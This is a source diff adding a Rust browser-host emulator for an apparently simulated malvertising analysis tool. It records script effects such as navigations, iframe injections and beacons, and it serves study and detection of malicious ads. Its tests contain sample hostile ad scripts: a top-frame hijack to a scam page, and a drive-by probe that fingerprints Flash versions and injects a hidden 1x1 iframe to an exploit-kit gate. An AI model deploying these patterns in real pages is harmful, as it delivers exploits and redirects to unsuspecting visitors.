@@ -1,0 +1,596 @@
+//! The DOM/BOM host environment bound into the AdScript interpreter.
+
+use crate::personality::Personality;
+use malvert_adscript::interp::Host;
+use malvert_adscript::value::{Heap, ObjId, Value};
+use malvert_types::Url;
+use std::rc::Rc;
+
+/// A side effect a script requested; the browser applies these after the
+/// script (or timer round) finishes, like real event-loop turns.
+#[derive(Debug, Clone)]
+pub enum Effect {
+    /// `document.write(markup)`.
+    Write(String),
+    /// `window.location = target` / `location.href = …` / `location.replace`.
+    Navigate {
+        /// Destination (string as the script supplied it).
+        target: String,
+    },
+    /// `top.location = target` from a (possibly cross-origin) frame.
+    NavigateTop {
+        /// Destination.
+        target: String,
+    },
+    /// An iframe element was attached with this `src`.
+    InjectIframe {
+        /// Frame source.
+        src: String,
+        /// Width × height in px².
+        area: u64,
+    },
+    /// `new Image().src = target`.
+    Beacon {
+        /// Beacon URL.
+        target: String,
+    },
+    /// `document.cookie = "name=value; …"` — the browser stores it in the
+    /// visit's cookie jar.
+    SetCookie {
+        /// The raw assignment string.
+        pair: String,
+    },
+}
+
+/// A scheduled `setTimeout` callback.
+#[derive(Debug, Clone)]
+pub struct ScheduledTimer {
+    /// The function value to call.
+    pub callback: Value,
+    /// Requested delay in ms (only used for ordering).
+    pub delay_ms: f64,
+}
+
+/// The browser's [`Host`] implementation for one document's scripts.
+///
+/// The browser constructs one per frame document, installs the globals via
+/// [`BrowserHost::install_globals`], runs the scripts, then drains
+/// [`BrowserHost::take_effects`] / [`BrowserHost::take_timers`].
+#[derive(Debug)]
+pub struct BrowserHost {
+    /// The personality this document observes (kept for debugging dumps).
+    #[allow(dead_code)]
+    personality: Personality,
+    /// The document's own URL (kept for debugging dumps).
+    #[allow(dead_code)]
+    frame_url: Url,
+    /// Effects in request order.
+    pub effects: Vec<Effect>,
+    /// Timers scheduled this run.
+    pub timers: Vec<ScheduledTimer>,
+    /// Whether `navigator.plugins` was read.
+    pub plugins_enumerated: bool,
+    next_timer_id: f64,
+}
+
+impl BrowserHost {
+    /// Creates the host for a document at `frame_url`.
+    pub fn new(personality: Personality, frame_url: Url) -> Self {
+        BrowserHost {
+            personality,
+            frame_url,
+            effects: Vec::new(),
+            timers: Vec::new(),
+            plugins_enumerated: false,
+            next_timer_id: 1.0,
+        }
+    }
+
+    /// Drains the accumulated effects.
+    pub fn take_effects(&mut self) -> Vec<Effect> {
+        std::mem::take(&mut self.effects)
+    }
+
+    /// Drains the scheduled timers.
+    pub fn take_timers(&mut self) -> Vec<ScheduledTimer> {
+        std::mem::take(&mut self.timers)
+    }
+
+    /// Installs `window`, `document`, `navigator`, `location`, `top`,
+    /// `screen`, `setTimeout`, and the `Image`/`Date` constructors into the
+    /// interpreter's globals. Call once before running the first script.
+    pub fn install_globals<H: Host>(
+        interp: &mut malvert_adscript::Interpreter<H>,
+        personality: &Personality,
+        frame_url: &Url,
+    ) {
+        let heap = &mut interp.heap;
+
+        // navigator + plugins array.
+        let navigator = heap.alloc_native("navigator");
+        let plugin_objs: Vec<Value> = personality
+            .plugins
+            .iter()
+            .map(|p| {
+                let o = heap.alloc_object();
+                heap.get_mut(o)
+                    .props
+                    .insert("name".to_string(), Value::str(&p.name));
+                heap.get_mut(o)
+                    .props
+                    .insert("version".to_string(), Value::str(&p.version));
+                Value::Obj(o)
+            })
+            .collect();
+        let plugins = heap.alloc_array(plugin_objs);
+        {
+            let nav = heap.get_mut(navigator);
+            nav.props.insert("plugins".to_string(), Value::Obj(plugins));
+            nav.props
+                .insert("userAgent".to_string(), Value::str(&personality.user_agent));
+            nav.props.insert(
+                "analysisTells".to_string(),
+                Value::Num(f64::from(personality.analysis_tells)),
+            );
+            nav.props
+                .insert("language".to_string(), Value::str("en-US"));
+        }
+
+        // screen.
+        let screen = heap.alloc_object();
+        heap.get_mut(screen)
+            .props
+            .insert("width".to_string(), Value::Num(f64::from(personality.screen.0)));
+        heap.get_mut(screen)
+            .props
+            .insert("height".to_string(), Value::Num(f64::from(personality.screen.1)));
+
+        // location object.
+        let location = heap.alloc_native("location");
+        heap.get_mut(location)
+            .props
+            .insert("href".to_string(), Value::str(frame_url.to_string()));
+        heap.get_mut(location).props.insert(
+            "host".to_string(),
+            Value::str(
+                frame_url
+                    .host()
+                    .map(|h| h.to_string())
+                    .unwrap_or_default(),
+            ),
+        );
+        heap.get_mut(location)
+            .props
+            .insert("replace".to_string(), Value::Native(Rc::from("location.replace")));
+        heap.get_mut(location)
+            .props
+            .insert("assign".to_string(), Value::Native(Rc::from("location.replace")));
+
+        // document with body element.
+        let body = heap.alloc_native("element:body");
+        heap.get_mut(body).props.insert(
+            "appendChild".to_string(),
+            Value::Native(Rc::from("element.appendChild")),
+        );
+        let document = heap.alloc_native("document");
+        {
+            let doc = heap.get_mut(document);
+            doc.props
+                .insert("write".to_string(), Value::Native(Rc::from("document.write")));
+            doc.props.insert(
+                "writeln".to_string(),
+                Value::Native(Rc::from("document.write")),
+            );
+            doc.props.insert(
+                "createElement".to_string(),
+                Value::Native(Rc::from("document.createElement")),
+            );
+            doc.props.insert(
+                "getElementById".to_string(),
+                Value::Native(Rc::from("document.getElementById")),
+            );
+            doc.props.insert("body".to_string(), Value::Obj(body));
+            doc.props
+                .insert("location".to_string(), Value::Obj(location));
+            doc.props.insert("referrer".to_string(), Value::str(""));
+            doc.props.insert("cookie".to_string(), Value::str(""));
+            doc.props
+                .insert("domain".to_string(), Value::str(
+                    frame_url.host().map(|h| h.to_string()).unwrap_or_default(),
+                ));
+        }
+
+        // top (SOP: opaque; only location assignment is allowed).
+        let top = heap.alloc_native("top");
+
+        // window (also the global alias `self`).
+        let window = heap.alloc_native("window");
+        {
+            let w = heap.get_mut(window);
+            w.props
+                .insert("location".to_string(), Value::Obj(location));
+            w.props
+                .insert("document".to_string(), Value::Obj(document));
+            w.props
+                .insert("navigator".to_string(), Value::Obj(navigator));
+            w.props.insert("screen".to_string(), Value::Obj(screen));
+            w.props.insert("top".to_string(), Value::Obj(top));
+            w.props.insert(
+                "setTimeout".to_string(),
+                Value::Native(Rc::from("window.setTimeout")),
+            );
+        }
+
+        interp.set_global("window", Value::Obj(window));
+        interp.set_global("self", Value::Obj(window));
+        interp.set_global("document", Value::Obj(document));
+        interp.set_global("navigator", Value::Obj(navigator));
+        interp.set_global("location", Value::Obj(location));
+        interp.set_global("screen", Value::Obj(screen));
+        interp.set_global("top", Value::Obj(top));
+        interp.set_global("setTimeout", Value::Native(Rc::from("window.setTimeout")));
+        interp.set_global("setInterval", Value::Native(Rc::from("window.setTimeout")));
+        interp.set_global("clearTimeout", Value::Native(Rc::from("window.noop")));
+        interp.set_global("alert", Value::Native(Rc::from("window.noop")));
+        interp.set_global("console_log", Value::Native(Rc::from("window.noop")));
+    }
+
+    fn value_to_string(heap: &Heap, v: &Value) -> String {
+        match v {
+            Value::Str(s) => s.to_string(),
+            Value::Num(n) => malvert_adscript::value::number_to_string(*n),
+            Value::Bool(b) => b.to_string(),
+            Value::Undefined => "undefined".to_string(),
+            Value::Null => "null".to_string(),
+            Value::Obj(id) => {
+                let data = heap.get(*id);
+                data.props
+                    .get("href")
+                    .map(|href| Self::value_to_string(heap, href))
+                    .unwrap_or_else(|| "[object]".to_string())
+            }
+            _ => "function".to_string(),
+        }
+    }
+}
+
+impl Host for BrowserHost {
+    fn call(
+        &mut self,
+        heap: &mut Heap,
+        name: &str,
+        _this: Option<ObjId>,
+        args: &[Value],
+    ) -> Result<Value, String> {
+        match name {
+            "document.write" => {
+                let markup = args
+                    .iter()
+                    .map(|a| Self::value_to_string(heap, a))
+                    .collect::<String>();
+                self.effects.push(Effect::Write(markup));
+                Ok(Value::Undefined)
+            }
+            "document.createElement" => {
+                let tag = args
+                    .first()
+                    .map(|a| Self::value_to_string(heap, a))
+                    .unwrap_or_default()
+                    .to_ascii_lowercase();
+                let el = heap.alloc_native("element");
+                heap.get_mut(el)
+                    .props
+                    .insert("tagName".to_string(), Value::str(&tag));
+                heap.get_mut(el).props.insert(
+                    "appendChild".to_string(),
+                    Value::Native(Rc::from("element.appendChild")),
+                );
+                Ok(Value::Obj(el))
+            }
+            "document.getElementById" => Ok(Value::Null),
+            "element.appendChild" => {
+                if let Some(Value::Obj(el)) = args.first() {
+                    let data = heap.get(*el);
+                    let tag = data
+                        .props
+                        .get("tagName")
+                        .map(|v| Self::value_to_string(heap, v))
+                        .unwrap_or_default();
+                    if tag == "iframe" {
+                        let src = data
+                            .props
+                            .get("src")
+                            .map(|v| Self::value_to_string(heap, v))
+                            .unwrap_or_default();
+                        let width = data
+                            .props
+                            .get("width")
+                            .map(|v| v.to_number())
+                            .filter(|n| n.is_finite() && *n >= 0.0)
+                            .unwrap_or(300.0);
+                        let height = data
+                            .props
+                            .get("height")
+                            .map(|v| v.to_number())
+                            .filter(|n| n.is_finite() && *n >= 0.0)
+                            .unwrap_or(250.0);
+                        if !src.is_empty() {
+                            self.effects.push(Effect::InjectIframe {
+                                src,
+                                area: (width as u64).saturating_mul(height as u64),
+                            });
+                        }
+                    }
+                }
+                Ok(args.first().cloned().unwrap_or(Value::Undefined))
+            }
+            "window.setTimeout" => {
+                let callback = args.first().cloned().unwrap_or(Value::Undefined);
+                let delay_ms = args.get(1).map(|v| v.to_number()).unwrap_or(0.0);
+                if matches!(callback, Value::Fn { .. } | Value::Native(_)) {
+                    self.timers.push(ScheduledTimer { callback, delay_ms });
+                }
+                let id = self.next_timer_id;
+                self.next_timer_id += 1.0;
+                Ok(Value::Num(id))
+            }
+            "location.replace" => {
+                // Called as location.replace(url) — possibly with the
+                // receiver string prepended for primitive receivers; take
+                // the last string argument as the target.
+                let target = args
+                    .iter()
+                    .rev()
+                    .find_map(|a| match a {
+                        Value::Str(s) => Some(s.to_string()),
+                        _ => None,
+                    })
+                    .unwrap_or_default();
+                if !target.is_empty() {
+                    self.effects.push(Effect::Navigate { target });
+                }
+                Ok(Value::Undefined)
+            }
+            "window.noop" => Ok(Value::Undefined),
+            other => Err(format!("{other} is not implemented")),
+        }
+    }
+
+    fn get_prop(&mut self, _heap: &mut Heap, tag: &str, _obj: ObjId, key: &str) -> Option<Value> {
+        match (tag, key) {
+            ("navigator", "plugins") => {
+                self.plugins_enumerated = true;
+                None // fall through to the stored array
+            }
+            ("top", "location") => {
+                // SOP: a cross-origin frame cannot *read* the top location;
+                // browsers return an opaque object. We return a string the
+                // script cannot do much with — writing is handled in
+                // set_prop.
+                Some(Value::str("about:blank"))
+            }
+            _ => None,
+        }
+    }
+
+    fn set_prop(
+        &mut self,
+        heap: &mut Heap,
+        tag: &str,
+        _obj: ObjId,
+        key: &str,
+        value: &Value,
+    ) -> bool {
+        match (tag, key) {
+            ("window", "location") | ("document", "location") => {
+                self.effects.push(Effect::Navigate {
+                    target: Self::value_to_string(heap, value),
+                });
+                true
+            }
+            ("location", "href") => {
+                self.effects.push(Effect::Navigate {
+                    target: Self::value_to_string(heap, value),
+                });
+                true
+            }
+            ("top", "location") => {
+                self.effects.push(Effect::NavigateTop {
+                    target: Self::value_to_string(heap, value),
+                });
+                true
+            }
+            ("image", "src") => {
+                self.effects.push(Effect::Beacon {
+                    target: Self::value_to_string(heap, value),
+                });
+                true
+            }
+            ("document", "cookie") => {
+                self.effects.push(Effect::SetCookie {
+                    pair: Self::value_to_string(heap, value),
+                });
+                true
+            }
+            _ => false,
+        }
+    }
+
+    fn construct(&mut self, heap: &mut Heap, name: &str, _args: &[Value]) -> Option<Value> {
+        match name {
+            "Image" => {
+                let img = heap.alloc_native("image");
+                Some(Value::Obj(img))
+            }
+            "Date" => {
+                // A fixed-epoch Date stub: enough for cache-busting tricks.
+                let date = heap.alloc_native("date");
+                heap.get_mut(date).props.insert(
+                    "getTime".to_string(),
+                    Value::Native(Rc::from("window.noop")),
+                );
+                Some(Value::Obj(date))
+            }
+            _ => None,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use malvert_adscript::{Interpreter, Limits};
+
+    fn run_with_host(src: &str) -> (Interpreter<BrowserHost>, Result<(), String>) {
+        let url = Url::parse("http://ads.example.com/creative").unwrap();
+        let personality = Personality::vulnerable_victim();
+        let host = BrowserHost::new(personality.clone(), url.clone());
+        let mut interp = Interpreter::new(host, Limits::default(), 7);
+        BrowserHost::install_globals(&mut interp, &personality, &url);
+        let result = interp.run(src).map(|_| ()).map_err(|e| e.to_string());
+        (interp, result)
+    }
+
+    #[test]
+    fn document_write_recorded() {
+        let (mut interp, r) = run_with_host("document.write('<b>x</b>');");
+        r.unwrap();
+        let effects = interp.host.take_effects();
+        assert!(matches!(&effects[0], Effect::Write(s) if s == "<b>x</b>"));
+    }
+
+    #[test]
+    fn plugin_enumeration_flagged() {
+        let (mut interp, r) = run_with_host(
+            "var found = ''; for (var i = 0; i < navigator.plugins.length; i++) { \
+             found += navigator.plugins[i].name + ';'; }",
+        );
+        r.unwrap();
+        assert!(interp.host.plugins_enumerated);
+        let found = interp.get_global("found").cloned().unwrap();
+        let s = interp.display_value(&found);
+        assert!(s.contains("Flash"));
+        assert!(s.contains("Java"));
+        interp.host.take_effects();
+    }
+
+    #[test]
+    fn window_location_navigation() {
+        let (mut interp, r) = run_with_host("window.location = 'http://next.com/';");
+        r.unwrap();
+        let effects = interp.host.take_effects();
+        assert!(matches!(&effects[0], Effect::Navigate { target } if target == "http://next.com/"));
+    }
+
+    #[test]
+    fn location_href_navigation() {
+        let (mut interp, r) = run_with_host("location.href = 'http://href.com/';");
+        r.unwrap();
+        let effects = interp.host.take_effects();
+        assert!(matches!(&effects[0], Effect::Navigate { target } if target == "http://href.com/"));
+    }
+
+    #[test]
+    fn top_location_hijack() {
+        let (mut interp, r) = run_with_host("top.location = 'http://scam.biz/lp';");
+        r.unwrap();
+        let effects = interp.host.take_effects();
+        assert!(
+            matches!(&effects[0], Effect::NavigateTop { target } if target == "http://scam.biz/lp")
+        );
+    }
+
+    #[test]
+    fn top_location_read_is_opaque() {
+        let (interp, r) = run_with_host("var t = top.location;");
+        r.unwrap();
+        let v = interp.get_global("t").cloned().unwrap();
+        assert_eq!(interp.display_value(&v), "about:blank");
+    }
+
+    #[test]
+    fn iframe_injection_via_create_append() {
+        let (mut interp, r) = run_with_host(
+            "var fr = document.createElement('iframe'); fr.width = 1; fr.height = 1; \
+             fr.src = 'http://exploit.biz/gate'; document.body.appendChild(fr);",
+        );
+        r.unwrap();
+        let effects = interp.host.take_effects();
+        assert!(matches!(
+            &effects[0],
+            Effect::InjectIframe { src, area } if src == "http://exploit.biz/gate" && *area == 1
+        ));
+    }
+
+    #[test]
+    fn appendchild_non_iframe_no_effect() {
+        let (mut interp, r) = run_with_host(
+            "var d = document.createElement('div'); document.body.appendChild(d);",
+        );
+        r.unwrap();
+        assert!(interp.host.take_effects().is_empty());
+    }
+
+    #[test]
+    fn set_timeout_schedules() {
+        let (mut interp, r) =
+            run_with_host("function f() { } setTimeout(f, 500); setTimeout('junk', 10);");
+        r.unwrap();
+        let timers = interp.host.take_timers();
+        // Only the function callback is kept; string timeouts are dropped
+        // (our creatives don't use them).
+        assert_eq!(timers.len(), 1);
+        assert_eq!(timers[0].delay_ms, 500.0);
+    }
+
+    #[test]
+    fn image_beacon() {
+        let (mut interp, r) =
+            run_with_host("var i = new Image(); i.src = 'http://track.com/p?x=1';");
+        r.unwrap();
+        let effects = interp.host.take_effects();
+        assert!(
+            matches!(&effects[0], Effect::Beacon { target } if target == "http://track.com/p?x=1")
+        );
+    }
+
+    #[test]
+    fn location_replace_call() {
+        let (mut interp, r) = run_with_host("location.replace('http://swap.com/');");
+        r.unwrap();
+        let effects = interp.host.take_effects();
+        assert!(matches!(&effects[0], Effect::Navigate { target } if target == "http://swap.com/"));
+    }
+
+    #[test]
+    fn analysis_tells_visible_to_cloaking() {
+        let url = Url::parse("http://ads.example.com/c").unwrap();
+        let personality = Personality::detectable_analyst();
+        let host = BrowserHost::new(personality.clone(), url.clone());
+        let mut interp = Interpreter::new(host, Limits::default(), 7);
+        BrowserHost::install_globals(&mut interp, &personality, &url);
+        interp
+            .run("var spotted = navigator.analysisTells > 0;")
+            .unwrap();
+        let v = interp.get_global("spotted").cloned().unwrap();
+        assert!(v.truthy());
+    }
+
+    #[test]
+    fn driveby_probe_full_flow() {
+        // The actual probe pattern the creatives use.
+        let (mut interp, r) = run_with_host(
+            "var vulnerable = false; var plugins = navigator.plugins; \
+             for (var i = 0; i < plugins.length; i++) { var p = plugins[i]; \
+               if (p.name.indexOf('Flash') >= 0 && parseFloat(p.version) < 11.8) { vulnerable = true; } } \
+             if (vulnerable) { var fr = document.createElement('iframe'); \
+               fr.width = 1; fr.height = 1; fr.src = 'http://kit.biz/gate'; \
+               document.body.appendChild(fr); }",
+        );
+        r.unwrap();
+        assert!(interp.host.plugins_enumerated);
+        let effects = interp.host.take_effects();
+        assert_eq!(effects.len(), 1);
+        assert!(matches!(&effects[0], Effect::InjectIframe { .. }));
+    }
+}
